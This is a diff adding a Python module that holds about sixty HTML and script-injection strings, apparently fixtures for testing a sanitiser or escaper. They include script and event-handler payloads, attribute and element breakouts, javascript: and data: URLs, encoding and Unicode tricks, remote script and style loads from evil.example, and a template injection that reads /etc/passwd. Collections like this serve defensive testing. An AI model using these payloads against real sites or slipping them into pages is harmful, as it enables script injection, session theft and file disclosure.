@@ -1,0 +1,73 @@
+"""Sixty texts that would act on a page which took them for more than text. Each calls `alert`, leaves the page, or
+breaks out of where a text may stand: of an element, an attribute, a script, a style, a comment, a template, a table.
+"""
+
+from __future__ import annotations
+
+PAYLOADS = (
+    # elements of their own
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(2)</scr</script>ipt>",
+    "<script/x>alert(3)</script/x>",
+    "<script>alert`4`</script>",
+    "<script type=module>import('//evil.example')</script>",
+    "<img src=x onerror=alert(5)>",
+    "<img src=`x` onerror=alert(6)>",
+    "<img/src/onerror=alert(7)>",
+    "<image href=1 onerror=alert(8)>",
+    "<svg onload=alert(9)>",
+    "<svg><script>alert(10)</script></svg>",
+    "<svg><animate onbegin=alert(11) attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:alert(12)><text y=20>tap</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(13)/>#x'/></svg>",
+    "<svg><foreignObject><iframe srcdoc='<script>alert(14)</script>'></iframe></foreignObject></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(15)>",
+    "<body onload=alert(16)>",
+    "<input autofocus onfocus=alert(17)>",
+    "<select autofocus onfocus=alert(18)><option>x</select>",
+    "<textarea autofocus onfocus=alert(19)></textarea>",
+    "<details open ontoggle=alert(20)>x</details>",
+    "<video><source onerror=alert(21)></video>",
+    "<audio src=x onerror=alert(22)></audio>",
+    "<marquee onstart=alert(23)>x</marquee>",
+    "<iframe src=javascript:alert(24)></iframe>",
+    "<iframe srcdoc='<script>parent.alert(25)</script>'></iframe>",
+    "<object data=javascript:alert(26)></object>",
+    "<embed src=javascript:alert(27)>",
+    "<form action=javascript:alert(28)><button autofocus>x</button></form>",
+    "<button formaction=javascript:alert(29) autofocus>x</button>",
+    "<a href=javascript:alert(30) autofocus>x</a>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(31)'>",
+    '<meta http-equiv=Content-Security-Policy content="default-src *">',
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import '//evil.example/x.css';*{background:url(//evil.example)}</style>",
+    "<dialog open onclose=alert(32)>x</dialog>",
+    # out of an attribute
+    '" autofocus onfocus=alert(33) x="',
+    "' autofocus onfocus=alert(34) x='",
+    '"><img src=x onerror=alert(35)>',
+    "'><svg/onload=alert(36)>",
+    "` onmouseover=alert(37) `",
+    '" style="animation-name:x" onanimationstart="alert(38)',
+    # out of what an element holds
+    "</title><script>alert(39)</script>",
+    "</textarea><script>alert(40)</script>",
+    "</script><script>alert(41)</script>",
+    "</style><script>alert(42)</script>",
+    "</option></select><img src=x onerror=alert(43)>",
+    "</td></tr></table><script>alert(44)</script>",
+    "--><script>alert(45)</script><!--",
+    "]]><script>alert(46)</script>",
+    # addresses
+    "javascript:alert(47)",
+    "JaVaScRiPt&colon;alert(48)",
+    "java\tscript:alert(49)",
+    "data:text/html,<script>alert(50)</script>",
+    # templates, entities, and signs that turn or hide text
+    "{{ ''.__class__.__mro__ }}{% include '/etc/passwd' %}",
+    "%(name)s %s ${alert(51)} #{alert(52)} <%= alert(53) %>",
+    "&lt;script&gt;alert(54)&lt;/script&gt;&#60;img src=x onerror=alert(55)&#62;",
+    "\u202e<img src=x onerror=alert(56)>\u2066\u200b\ufeff＜script＞alert(57)＜/script＞",
+)
